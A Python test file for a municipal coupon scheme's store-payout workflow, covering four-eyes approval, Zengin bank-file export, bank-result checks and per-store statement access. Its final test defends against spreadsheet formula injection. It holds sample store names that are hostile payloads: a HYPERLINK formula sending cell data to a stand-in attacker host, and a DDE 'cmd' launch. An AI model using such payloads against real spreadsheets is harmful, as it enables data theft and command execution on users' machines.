"""Paying the stores (F-1..F-5): the four-eyes rule, a frozen batch, one Zengin file, the bank's
results line by line, and each store seeing only its own statements."""

import csv
import io
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pypdfium2 as pdfium
import pytest
from sqlalchemy import select

from kariya.audit import ledger_check
from kariya.ledger import postings
from kariya.models import Campaign, PayoutAdjustment, PayoutBatch, Store
from kariya.payouts import zengin
from tests.conftest import DATABASE_URL
from tests.helpers import (
    ROUND1,
    csrf_from,
    load_campaign,
    login_resident,
    login_staff,
    make_store,
    make_user,
)


def staff_app(testapp, db, role, username, store_code=None):
    from tests.helpers import PASSWORD

    make_user(db, role, username=username, store_code=store_code)
    app = testapp.__class__(testapp.app, extra_environ={"HTTP_HOST": "localhost"})
    login_staff(app, username, PASSWORD)
    return app


def post(app, page_url, action_url, fields=None, status=302):
    page = app.get(page_url)
    return app.post(
        action_url, {**(fields or {}), "csrf_token": csrf_from(page.text)}, status=status
    )


@pytest.fixture
def spent(db, testapp):
    """Round 1: a resident uses 2 coupons at a store with a bank account and 1 at one without."""
    load_campaign(db, total=60_000, rounds=6)
    paid = make_store(db, "S0001", "かりや青果店")
    paid.bank_code, paid.branch_code, paid.account_type = "0001", "004", "普通"
    paid.account_number, paid.account_holder_kana = "0000001", "カリヤセイカテン"
    held = make_store(db, "S0002", "口座未登録の店")
    db.commit()
    testapp.put_json("/dev/clock", {"now": ROUND1.replace(hour=10).isoformat(), "frozen": True})
    token = login_resident(testapp)
    testapp.post("/api/v1/acquisitions", headers={"X-CSRF-Token": token}, status=201)
    for store, count in ((paid, 2), (held, 1)):
        testapp.post_json(
            "/api/v1/redemptions",
            {"store_token": store.qr_token, "coupons": count, "bill_amount": 3000},
            headers={"X-CSRF-Token": token},
            status=201,
        )
    testapp.put_json("/dev/clock", {"now": "2024-01-16T10:00:00+09:00", "frozen": True})
    return paid, held


def test_the_whole_path_from_a_scanned_qr_to_a_bank_transfer(testapp, db, spent):
    paid, held = spent
    secretariat = staff_app(testapp, db, "secretariat", "sec1")
    city = staff_app(testapp, db, "city", "city1")
    post(secretariat, "/secretariat/payouts", "/secretariat/payouts/build")
    batch = db.scalar(select(PayoutBatch))
    assert (batch.period_key, batch.state) == ("20240101-20240115", "draft")
    page = secretariat.get(f"/secretariat/payouts/{batch.id}")
    assert "振込 1店舗 ・ 1件 ・ <strong>1,000円</strong>" in page.text
    assert "振込先の金融機関・支店が未登録のため保留" in page.text

    post(secretariat, f"/secretariat/payouts/{batch.id}", f"/secretariat/payouts/{batch.id}/submit")
    # The secretariat cannot approve (no permission); the city can.
    post(
        secretariat,
        f"/secretariat/payouts/{batch.id}",
        f"/city/payouts/{batch.id}/approve",
        status=403,
    )
    assert "要承認" in city.get("/city/payouts").text
    post(city, f"/city/payouts/{batch.id}", f"/city/payouts/{batch.id}/approve")
    db.expire_all()
    assert postings.balance(db, postings.PAYABLE) == 1_000

    post(secretariat, f"/secretariat/payouts/{batch.id}", f"/secretariat/payouts/{batch.id}/export")
    first = secretariat.get(f"/secretariat/payouts/{batch.id}/zengin.txt").body
    parsed = zengin.parse(first)
    assert [
        (r["bank_code"], r["branch_code"], r["account_number"], r["holder"], r["amount"])
        for r in parsed.records
    ] == [("0001", "004", "0000001", "ｶﾘﾔｾｲｶﾃﾝ", 1_000)]
    # Exporting again gives the same file; it pays nobody twice.
    post(secretariat, f"/secretariat/payouts/{batch.id}", f"/secretariat/payouts/{batch.id}/export")
    assert secretariat.get(f"/secretariat/payouts/{batch.id}/zengin.txt").body == first

    post(
        secretariat,
        f"/secretariat/payouts/{batch.id}",
        f"/secretariat/payouts/{batch.id}/results",
        {"csv": "S0001,1000,成功,,165"},
    )
    db.expire_all()
    assert db.get(PayoutBatch, batch.id).state == "transferred"
    assert (
        postings.balance(db, postings.PAID) == 1_000
    )  # the fee (165) is the operator's cost, not deducted
    report = ledger_check.check(db, db.scalar(select(Campaign)))
    assert report.ok, report.text()
    assert report.figures["pending"] == 500  # the held store's use waits for the next batch
    post(
        secretariat,
        f"/secretariat/payouts/{batch.id}",
        f"/secretariat/payouts/{batch.id}/reconcile",
    )
    assert "照合済み" in secretariat.get(f"/secretariat/payouts/{batch.id}").text


def test_nobody_approves_a_batch_they_submitted(testapp, db, spent):
    """Four eyes: the same person cannot both submit and approve, even holding both roles' CLI."""
    from kariya.clock import FixedClock
    from kariya.errors import Forbidden
    from kariya.payouts import batches
    from kariya.settings import Settings

    clock = FixedClock(ROUND1.replace(day=16, hour=10))
    batch = batches.build(db, clock, Settings(), actor="staff:alice")
    batches.submit(db, clock, batch, actor="staff:alice")
    with pytest.raises(Forbidden, match="ダブルチェック"):
        batches.approve(db, clock, batch, actor="staff:alice")
    batches.approve(db, clock, batch, actor="staff:bob")
    assert batch.state == "approved"


def test_a_submitted_batch_is_frozen(testapp, db, spent):
    secretariat = staff_app(testapp, db, "secretariat", "sec1")
    post(secretariat, "/secretariat/payouts", "/secretariat/payouts/build")
    batch = db.scalar(select(PayoutBatch))
    post(secretariat, f"/secretariat/payouts/{batch.id}", f"/secretariat/payouts/{batch.id}/submit")
    # No second batch while one is in progress, and no way to change this one's lines.
    response = post(secretariat, "/secretariat/payouts", "/secretariat/payouts/build", status=409)
    assert "処理中の支払バッチ" in response.text
    post(
        secretariat,
        f"/secretariat/payouts/{batch.id}",
        f"/secretariat/payouts/{batch.id}/submit",
        status=409,
    )
    post(
        secretariat,
        f"/secretariat/payouts/{batch.id}",
        f"/secretariat/payouts/{batch.id}/export",
        status=409,
    )


def test_city_rejects_with_a_reason_and_the_batch_is_rebuilt(testapp, db, spent):
    secretariat = staff_app(testapp, db, "secretariat", "sec1")
    city = staff_app(testapp, db, "city", "city1")
    post(secretariat, "/secretariat/payouts", "/secretariat/payouts/build")
    batch = db.scalar(select(PayoutBatch))
    post(secretariat, f"/secretariat/payouts/{batch.id}", f"/secretariat/payouts/{batch.id}/submit")
    post(
        city,
        f"/city/payouts/{batch.id}",
        f"/city/payouts/{batch.id}/reject",
        {"reason": " "},
        status=422,
    )
    post(
        city,
        f"/city/payouts/{batch.id}",
        f"/city/payouts/{batch.id}/reject",
        {"reason": "金額を確認してください"},
    )
    assert (
        "差戻し理由: 金額を確認してください"
        in secretariat.get(f"/secretariat/payouts/{batch.id}").text
    )
    post(
        secretariat, f"/secretariat/payouts/{batch.id}", f"/secretariat/payouts/{batch.id}/redraft"
    )
    db.expire_all()
    assert db.get(PayoutBatch, batch.id).state == "draft"
    assert "<strong>1,000円</strong>" in secretariat.get(f"/secretariat/payouts/{batch.id}").text


def test_bank_results_are_checked_line_by_line_and_a_failure_goes_to_the_next_batch(
    testapp, db, spent
):
    secretariat = staff_app(testapp, db, "secretariat", "sec1")
    city = staff_app(testapp, db, "city", "city1")
    post(secretariat, "/secretariat/payouts", "/secretariat/payouts/build")
    batch = db.scalar(select(PayoutBatch))
    post(secretariat, f"/secretariat/payouts/{batch.id}", f"/secretariat/payouts/{batch.id}/submit")
    post(city, f"/city/payouts/{batch.id}", f"/city/payouts/{batch.id}/approve")
    post(secretariat, f"/secretariat/payouts/{batch.id}", f"/secretariat/payouts/{batch.id}/export")
    bad = post(
        secretariat,
        f"/secretariat/payouts/{batch.id}",
        f"/secretariat/payouts/{batch.id}/results",
        {"csv": "S0001,999,成功\nS9999,100,成功\nS0001,1000,たぶん"},
        status=422,
    )
    assert "結果は「成功」か「失敗」" in bad.text
    bad = post(
        secretariat,
        f"/secretariat/payouts/{batch.id}",
        f"/secretariat/payouts/{batch.id}/results",
        {"csv": "S0001,999,成功\nS9999,100,成功"},
        status=422,
    )
    assert "1行目: 店舗 S0001 の金額 999円 がバッチの 1,000円 と一致しません" in bad.text
    assert "2行目: 店舗 S9999 はこのバッチにありません" in bad.text
    db.expire_all()
    assert db.get(PayoutBatch, batch.id).state == "exported"  # nothing written
    post(
        secretariat,
        f"/secretariat/payouts/{batch.id}",
        f"/secretariat/payouts/{batch.id}/results",
        {"csv": "S0001,1000,失敗,口座解約"},
    )
    db.expire_all()
    report = ledger_check.check(db, db.scalar(select(Campaign)))
    assert report.ok, report.text()
    assert (report.figures["paid"], report.figures["pending"]) == (0, 1_500)
    # The store's account is fixed; the next batch pays the use again, once.
    testapp.put_json("/dev/clock", {"now": "2024-02-01T10:00:00+09:00", "frozen": True})
    post(secretariat, "/secretariat/payouts", "/secretariat/payouts/build")
    second = db.scalars(select(PayoutBatch).order_by(PayoutBatch.id.desc())).first()
    assert second.id != batch.id and second.period_key == "20240116-20240131"
    assert "<strong>1,000円</strong>" in secretariat.get(f"/secretariat/payouts/{second.id}").text


def test_a_store_sees_only_its_own_statements(testapp, db, spent):
    paid, held = spent
    secretariat = staff_app(testapp, db, "secretariat", "sec1")
    post(secretariat, "/secretariat/payouts", "/secretariat/payouts/build")
    batch = db.scalar(select(PayoutBatch))
    own = staff_app(testapp, db, "store", "shop1", store_code="S0001")
    other = staff_app(testapp, db, "store", "shop2", store_code="S0002")
    assert "1,000円" in own.get("/store/statements").text
    book = openpyxl.load_workbook(io.BytesIO(own.get(f"/store/statements/{batch.id}.xlsx").body))
    sheet = book.active
    assert sheet["B1"].value == "かりや青果店"
    assert [row[3] for row in sheet.iter_rows(min_row=6, values_only=True)] == [1000]
    # The held store sees its own held line, and nothing of the other store.
    held_sheet = openpyxl.load_workbook(
        io.BytesIO(other.get(f"/store/statements/{batch.id}.xlsx").body)
    ).active
    assert held_sheet["B1"].value == "口座未登録の店"
    assert "保留" in held_sheet["F3"].value
    assert "かりや青果店" not in other.get("/store/statements").text
    make_store(db, "S0003", "本のたから堂")
    stranger = staff_app(testapp, db, "store", "shop3", store_code="S0003")
    stranger.get(f"/store/statements/{batch.id}.xlsx", status=404)
    statement = own.get(f"/store/statements/{batch.id}.pdf").body
    assert b"/FontFile2" in statement  # the Japanese font travels inside the file
    pdf = pdfium.PdfDocument(statement)
    assert [round(v) for v in pdf[0].get_size()] == [595, 842]  # A4
    assert "かりや青果店" in pdf[0].get_textpage().get_text_range()
    stranger.get(f"/store/statements/{batch.id}.pdf", status=404)
    other.get(f"/secretariat/payouts/{batch.id}", status=403)
    other.get(f"/city/payouts/{batch.id}", status=403)
    city = staff_app(testapp, db, "city", "city1")
    sheet = openpyxl.load_workbook(
        io.BytesIO(city.get(f"/city/payouts/{batch.id}.xlsx").body)
    ).active
    assert [r[0] for r in sheet.iter_rows(min_row=3, values_only=True)] == ["S0001", "S0002"]


def test_payouts_cli_keeps_the_same_rules(tmp_path, testapp, db, spent):
    make_user(db, "secretariat", username="sec1")
    make_user(db, "city", username="city1")
    ini = tmp_path / "cli.ini"
    ini.write_text(
        "[app:main]\nuse = egg:kariya\n"
        f"sqlalchemy.url = {DATABASE_URL}\nkariya.session_secret = x\nkariya.clock = settable\n"
        "kariya.zengin.remitter_code = 1234567890\nkariya.zengin.remitter_name = ｶﾘﾔｼ\n"
        "kariya.zengin.bank_code = 0001\nkariya.zengin.branch_code = 001\nkariya.zengin.account_type = 1\n"
        "kariya.zengin.account_number = 1234567\n"
    )
    kariya = str(Path(sys.executable).with_name("kariya"))

    def run(*args):
        return subprocess.run(
            [kariya, "-c", str(ini), "payouts", *args], capture_output=True, text=True, timeout=120
        )

    built = run("build")
    assert built.returncode == 0, built.stderr
    batch_id = db.scalar(select(PayoutBatch.id))
    assert (
        run("export", str(batch_id), "--out", str(tmp_path / "z.txt")).returncode == 2
    )  # not approved
    assert run("submit", str(batch_id), "--as", "city1").returncode == 2  # wrong role
    assert run("submit", str(batch_id), "--as", "sec1").returncode == 0
    assert "承認は市の担当者" in run("approve", str(batch_id), "--as", "sec1").stderr
    assert run("approve", str(batch_id), "--as", "city1").returncode == 0
    done = run("export", str(batch_id), "--out", str(tmp_path / "z.txt"))
    assert done.returncode == 0, done.stderr
    assert zengin.parse((tmp_path / "z.txt").read_bytes()).total == 1_000
    assert db.scalar(select(Store.code).where(Store.id == spent[0].id)) == "S0001"


# --- typed text in the payment spreadsheets (I-10; issue 14, defect 1) --------------------------

# What the security review typed as store names: a full-width ＝, a space or U+3000 before "=".
TYPED_NAMES = [
    '＝HYPERLINK("http://evil.example/?"&D3,"明細")',
    " =cmd|' /C calc'!A0",
    "\u3000=1+1",
]


def _cells(data: bytes) -> list:
    """Every cell of every sheet of an .xlsx, as openpyxl reads it back."""
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def _formulas(data: bytes) -> list[str]:
    return [c.coordinate for c in _cells(data) if c.data_type == "f"]


def _texts(data: bytes) -> set:
    return {c.value for c in _cells(data) if c.data_type == "s"}


def test_typed_text_is_text_in_the_payment_spreadsheets_and_csv(testapp, db, registry, tmp_path):
    """I-10, F-1, F-5: store names as the import stored them before it checked normalised
    values (NFKC and trimming turn each of TYPED_NAMES into text starting with "="), and an
    adjustment reason "=1+1", reach the city's batch workbook and every store's statement as
    string cells, never formulas, and the CSV files (the exports, the materials' index) with a
    leading '. (The import now refuses such names: test_store_import.py.)"""
    from kariya.materials import sets
    from kariya.reports import exports
    from kariya.stores import normalize

    load_campaign(db, total=60_000, rounds=6)
    names = [normalize.text(typed) for typed in TYPED_NAMES]
    assert all(name.startswith("=") for name in names)  # what main's import stored
    stores = []
    for n, name in enumerate(names, start=1):
        store = make_store(db, f"S000{n}", name)
        store.bank_code, store.branch_code, store.account_type = "0001", "004", "普通"
        store.account_number, store.account_holder_kana = f"000000{n}", "カリヤセイカテン"
        stores.append(store)
    db.commit()
    testapp.put_json("/dev/clock", {"now": ROUND1.replace(hour=10).isoformat(), "frozen": True})
    token = login_resident(testapp)
    testapp.post("/api/v1/acquisitions", headers={"X-CSRF-Token": token}, status=201)
    for store in stores:
        testapp.post_json(
            "/api/v1/redemptions",
            {"store_token": store.qr_token, "coupons": 1, "bill_amount": 3000},
            headers={"X-CSRF-Token": token},
            status=201,
        )
    testapp.put_json("/dev/clock", {"now": "2024-01-16T10:00:00+09:00", "frozen": True})
    secretariat = staff_app(testapp, db, "secretariat", "sec1")
    city = staff_app(testapp, db, "city", "city1")
    post(
        secretariat,
        "/secretariat/adjustments",
        "/secretariat/adjustments",
        {"store_code": "S0001", "amount": "100", "reason": "=1+1"},
    )
    adjustment = db.scalar(select(PayoutAdjustment))
    assert adjustment.reason == "=1+1"
    post(city, "/city/adjustments", f"/city/adjustments/{adjustment.id}/approve")
    post(secretariat, "/secretariat/payouts", "/secretariat/payouts/build")
    batch = db.scalar(select(PayoutBatch))

    for data in (
        secretariat.get(f"/secretariat/payouts/{batch.id}.xlsx").body,
        city.get(f"/city/payouts/{batch.id}.xlsx").body,
    ):
        assert _formulas(data) == []
        assert set(names) <= _texts(data)  # as stored, as text
    for n, store in enumerate(stores, start=1):
        own = staff_app(testapp, db, "store", f"store{n}", store_code=store.code)
        data = own.get(f"/store/statements/{batch.id}.xlsx").body
        assert _formulas(data) == []
        assert store.name in _texts(data)
        if n == 1:
            assert "=1+1" in _texts(data)  # the adjustment's reason

    for fmt in ("csv", "xlsx"):  # the city's exports (C-2, DESIGN §5.3)
        out = tmp_path / f"stores.{fmt}"
        with out.open("wb") as file:
            exports.write(db, "stores", file, fmt)
        if fmt == "xlsx":
            assert _formulas(out.read_bytes()) == []
            continue
        rows = list(csv.reader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))
        assert {row[1] for row in rows[1:]} == {"'" + name for name in names}
    archive_path = tmp_path / "materials.zip"  # the secretariat's bulk build (S-2)
    sets.build_all(db, registry.settings, archive_path)
    with zipfile.ZipFile(archive_path) as archive:
        index = archive.read("index.csv").decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(index)))
    assert [row[1] for row in rows[1:]] == ["'" + name for name in names]
